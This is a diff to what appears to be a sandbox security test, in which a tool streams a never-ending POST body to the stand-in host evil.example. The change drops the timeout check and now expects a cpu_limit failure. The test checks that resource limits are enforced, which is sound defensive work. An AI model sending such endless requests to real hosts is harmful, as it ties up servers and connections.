@@ -1,6 +1,5 @@
-// attack: Sends a body that never ends, to keep a connection open for as long as the call lasts.
-// expect: ok
-// result: {"refused":true}
+// attack: Sends a body that never ends, to keep a connection open: it is read here, on the call's own budget.
+// expect: cpu_limit
 
 export default {
   tools: {
@@ -13,11 +12,7 @@ export default {
             controller.enqueue(new Uint8Array(1024));
           },
         });
-        let refused = false;
-        const timeout = new Promise((resolve) => setTimeout(resolve, 50, "stuck"));
-        const outcome = await Promise.race([fetch("https://evil.example/", { method: "POST", body: endless, duplex: "half" }).catch(() => "refused"), timeout]);
-        refused = outcome === "refused" || outcome === "stuck";
-        return { refused };
+        await fetch("https://evil.example/", { method: "POST", body: endless, duplex: "half" });
       },
     },
   },
